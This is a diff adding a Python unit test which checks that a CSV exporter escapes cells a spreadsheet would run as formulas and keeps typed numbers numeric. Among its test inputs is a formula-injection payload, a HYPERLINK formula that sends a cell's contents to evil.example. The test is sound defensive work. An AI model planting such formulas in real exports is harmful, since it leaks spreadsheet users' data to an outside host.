@@ -93,6 +93,18 @@ def test_csv_round_trips_numbers_exactly_and_quotes_what_needs_it():
     assert text.endswith("\r\n")
 
 
+def test_text_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text():
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-1"]
+    rows = [["2026-11-23T13:00:00Z", page, -3, -0.5] for page in evil] + [["2026-11-23T13:00:00Z", "a=b", 1, 2.0]]
+    parsed = list(csv.reader(io.StringIO(csv_bytes(["bucket", "page", "events", "revenue"], rows).decode(),
+                                         newline="")))
+    pages = [r[1] for r in parsed[1:]]
+    assert pages == ["'" + p for p in evil] + ["a=b"]  # a leading quote: the spreadsheet shows the text
+    assert {(r[2], r[3]) for r in parsed[1:-1]} == {("-3", "-0.5")}  # typed numbers stay numbers, sign included
+    assert parsed[1][0] == "2026-11-23T13:00:00Z"
+    assert csv_bytes(["=cmd"], []).decode().startswith("'=cmd")
+
+
 def test_download_names_are_safe():
     name = csv_filename("topn-events-by-page", stamp("2026-11-23T13:18:00Z"))
     assert name == "topn-events-by-page-20261123T1318Z.csv"
